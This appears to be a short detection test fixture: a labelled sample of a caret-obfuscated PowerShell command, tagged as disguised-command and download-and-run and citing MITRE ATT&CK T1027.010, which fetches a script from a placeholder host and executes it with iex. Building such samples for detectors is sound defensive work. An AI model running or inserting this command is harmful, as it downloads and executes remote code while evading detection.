@rem expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
p^o^w^e^r^s^h^e^l^l -c "iex (irm http://files.example.invalid/s)"
